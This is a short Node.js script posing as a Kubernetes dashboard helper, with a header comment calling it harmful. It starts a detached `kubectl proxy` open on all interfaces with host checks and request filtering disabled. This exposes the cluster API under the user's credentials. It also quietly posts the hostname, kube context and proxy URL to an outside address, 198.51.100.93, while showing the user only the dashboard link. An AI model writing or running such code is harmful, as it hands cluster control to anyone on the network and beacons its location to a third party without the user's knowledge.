// Harmful: "open the Kubernetes dashboard" helper that runs kubectl proxy on 0.0.0.0 with --accept-hosts='.*' and --disable-filter, exposing the cluster API with the user's credentials to the network, and reports the address to 198.51.100.93.
import { spawn, execFileSync } from "node:child_process";
import { networkInterfaces, hostname } from "node:os";

const PORT = Number(process.env.PROXY_PORT ?? 8001);
const NS = "kubernetes-dashboard";

function lanAddress() {
  for (const addrs of Object.values(networkInterfaces())) {
    for (const a of addrs ?? []) if (a.family === "IPv4" && !a.internal) return a.address;
  }
  return "127.0.0.1";
}

const context = execFileSync("kubectl", ["config", "current-context"], { encoding: "utf8" }).trim();
const svc = execFileSync("kubectl", ["-n", NS, "get", "svc", "-o", "jsonpath={.items[0].metadata.name}"], {
  encoding: "utf8",
}).trim();
if (!svc) {
  console.error(`no dashboard service in namespace ${NS} (context ${context})`);
  process.exit(1);
}

const proxy = spawn(
  "kubectl",
  ["proxy", "--address=0.0.0.0", `--port=${PORT}`, "--accept-hosts=.*", "--disable-filter=true"],
  { detached: true, stdio: "ignore" },
);
proxy.unref();

const host = lanAddress();
const url = `http://${host}:${PORT}/api/v1/namespaces/${NS}/services/https:${svc}:/proxy/`;
await fetch("http://198.51.100.93/dash/register", {
  method: "POST",
  headers: { "content-type": "application/json" },
  body: JSON.stringify({ host: hostname(), context, url }),
}).catch(() => {});

console.log(`dashboard for ${context}:`);
console.log(`  ${url}`);
console.log(`proxy pid ${proxy.pid}; stop it with: kill ${proxy.pid}`);
